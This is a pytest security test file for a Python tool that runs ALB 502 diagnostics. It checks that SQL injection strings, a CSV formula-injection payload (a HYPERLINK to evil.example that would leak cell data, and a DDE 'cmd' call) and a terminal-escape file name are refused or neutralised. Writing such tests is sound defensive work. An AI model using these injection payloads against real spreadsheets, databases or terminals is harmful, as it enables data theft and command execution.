"""User values reach SQL only as validated, escaped literals."""

from __future__ import annotations

from pathlib import Path

import pytest
import sqlglot

from alb502athena.diagnosis import diagnose
from alb502athena.engines.local import LocalEngine
from alb502athena.errors import UsageError
from alb502athena.logfiles import discover
from alb502athena.render import QueryParams, render_athena_ddl, render_signature
from alb502athena.sqltext import sql_string
from alb502athena.window import Window
from tests.conftest import write_log
from tests.lines import signature_line

ATTACKS = ["x' OR '1'='1", "app/x/0123456789abcdef' OR '1'='1", "app/a/0123456789abcdef'; DROP TABLE t; --"]


@pytest.mark.parametrize("value", ATTACKS)
def test_load_balancer_injection_is_refused(value: str) -> None:
    with pytest.raises(UsageError, match="invalid --load-balancer"):
        render_signature("connect-failed", QueryParams(Window(), load_balancer=value))


@pytest.mark.parametrize("table", ["alb; DROP TABLE x", "a b", "t'--", "db.t.x.y"])
def test_table_names_are_identifiers(table: str) -> None:
    with pytest.raises(UsageError, match="invalid table name"):
        render_signature("connect-failed", QueryParams(Window(), table=table))


@pytest.mark.parametrize("value", ["2026-11-20' OR '1'='1", "now()", "yesterday"])
def test_times_are_parsed_not_pasted(value: str) -> None:
    with pytest.raises(UsageError, match="invalid --start"):
        Window.from_options(None, value, None)


@pytest.mark.parametrize("value", ["it's", "a''b", "'; --", "%s %(x)s", "\\'"])
def test_string_literals_round_trip(value: str) -> None:
    tree = sqlglot.parse_one(f"SELECT {sql_string(value)} AS v", read="athena")
    assert tree.selects[0].this.this == value


def test_ddl_values_are_validated() -> None:
    with pytest.raises(UsageError, match="invalid --prefix"):
        render_athena_ddl(
            bucket="my-bucket", prefix="p' )", account="123456789012", region="eu-west-1",
            table="t", projection_start="2024/01/01",
        )  # fmt: skip


def test_an_injected_value_in_the_logs_stays_data(tmp_path: Path) -> None:
    # A hostile user agent is data read by the engine, never SQL.
    line = signature_line("target-502", user_agent="x' OR '1'='1 --")
    path = write_log(tmp_path / "a.log", [line])
    window = Window()
    d = diagnose(LocalEngine(discover([path], window).files, window), QueryParams(window))
    assert d.totals.elb_502 == 1


def test_log_values_cannot_become_spreadsheet_formulas(tmp_path: Path) -> None:
    """CSV output is opened in spreadsheets: a value from the logs that starts like a formula is
    prefixed with a quote, while numbers (-1) and the logs' own '-' stay as they are."""
    import csv
    import io

    from typer.testing import CliRunner

    from alb502athena.cli.app import app
    from alb502athena.output import rows_csv

    hostile = {
        "request": 'GET =HYPERLINK("http://evil.example/?"&A1) HTTP/1.1',
        "trace_id": "+cmd|' /C calc'!A0",
    }
    write_log(tmp_path / "a.log", [signature_line("connect-failed", **hostile)])
    result = CliRunner().invoke(app, ["run", "connect-failed", str(tmp_path), "-o", "csv"])
    assert result.exit_code == 0, result.output
    (row,) = list(csv.DictReader(io.StringIO(result.stdout)))
    assert row["request_url"] == "'" + '=HYPERLINK("http://evil.example/?"&A1)'
    assert row["trace_id"] == "'+cmd|' /C calc'!A0"
    assert row["target_processing_time"] == "-1.0"
    values = ["-", -1.0, "-1", "-x", "@a", "\tb", "ok", None]
    assert rows_csv(["v"] * len(values), [values]).splitlines()[1] == "-,-1.0,-1,'-x,'@a,'\tb,ok,"


def test_a_file_name_cannot_steer_the_terminal(tmp_path: Path) -> None:
    """File names are read from the disk (or a bucket): the notes on stderr show their control
    characters as escapes, as the results do."""
    from typer.testing import CliRunner

    from alb502athena.cli.app import app

    write_log(tmp_path / "good.log", [signature_line("connect-failed")])
    (tmp_path / "bad\x1b]0;pwned\x07.log.gz").write_bytes(b"\x1f\x8b not gzip")
    result = CliRunner().invoke(app, ["diagnose", str(tmp_path), "-o", "json"])
    assert result.exit_code == 0, result.stderr
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert "bad\\x1b]0;pwned\\x07.log.gz" in result.stderr
